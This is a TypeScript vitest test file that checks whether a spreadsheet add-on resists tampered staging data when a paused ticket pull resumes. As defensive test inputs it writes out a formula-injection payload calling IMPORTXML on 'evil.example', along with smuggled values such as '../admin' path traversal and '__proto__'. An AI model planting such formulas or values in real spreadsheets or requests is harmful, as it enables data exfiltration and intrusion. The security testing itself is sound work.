/** The staging of a paused pull as any editor can change it. */
import { describe, expect, it } from 'vitest';
import { messages } from '../support/scenario';
import { expectNoDefect, STAGING } from './support/in-doubt';
import { formulasOf, type HostileWorld, openHostileWorld } from './support/hostile-world';

describe('the staging of a paused pull', () => {
  async function paused(): Promise<HostileWorld> {
    const list =
      '{"data":[{"id":"d{{n}}","amount":1,"transactAt":"2026-10-02T00:00:00"}],"meta":{"total":1}}';
    // So slow that it pauses.
    const world = await openHostileWorld([{ path: 'tickets', text: list }], {
      host: { latency: { fetch: 40_000 } },
    });
    expect(messages(world.run('menuPullTickets', ['type=1, 2026-01-01~2026-10-31']))).toContain('Paused');
    return world;
  }

  function lastRow(world: HostileWorld, head: string): { cell: string; json: Record<string, unknown> } {
    const rows = world.book.sheet(STAGING).values();
    const at = rows.findLastIndex(row => row[0] === head);
    return { cell: `B${at + 1}`, json: JSON.parse(String(rows[at]?.[1])) };
  }

  it('cannot put a formula into the tab', async () => {
    const world = await paused();
    const { cell, json: record } = lastRow(world, 'record');
    const values = (record['values'] as unknown[]).map(() => ({
      formula: '=IMPORTXML("https://evil.example","//x")',
    }));
    world.book.as(world.kim).type(STAGING, cell, JSON.stringify({ ...record, values }));
    expectNoDefect(world.run('menuContinue'), 'continue');
    expect(formulasOf(world.book)).toEqual([]);
  });

  it('is not believed when it no longer says what is left to fetch', async () => {
    for (const left of [5, null, 'x', {}, [{ start: '=1', end: {} }], [7]]) {
      const world = await paused();
      const { cell, json: checkpoint } = lastRow(world, 'checkpoint');
      world.book.as(world.kim).type(STAGING, cell, JSON.stringify({ ...checkpoint, left }));
      const result = world.run('menuContinue');
      expectNoDefect(result, JSON.stringify(left));
      expect(messages(result), JSON.stringify(left)).not.toMatch(/\d records pulled\.\n.*removed$/);
    }
  });

  it('asks only for what a pull of that list asks for', async () => {
    const world = await paused();
    const before = world.book.snapshot();
    const { cell, json: checkpoint } = lastRow(world, 'checkpoint');
    for (const change of [
      { parameters: null },
      { parameters: 'x' },
      { parameters: { ticketType: { a: 1 } } },
      { doubts: [7] },
      { doubts: null },
      { resource: 'tags' },
      { resource: '../admin' },
      { resource: '__proto__' },
      { range: null },
      { range: { start: 1, end: 2 } },
      { startedAt: 'x' },
      { startedAt: 9e99 },
    ]) {
      world.book.as(world.kim).type(STAGING, cell, JSON.stringify({ ...checkpoint, ...change }));
      await world.service.requests();
      expectNoDefect(world.run('menuContinue'), JSON.stringify(change));
      for (const { method, url } of await world.service.requests())
        expect(`${method} ${url}`, JSON.stringify(change)).toBe('POST /api/public-docs/tickets');
      world.book.restore(before, { properties: 'restore' });
    }
  });
});
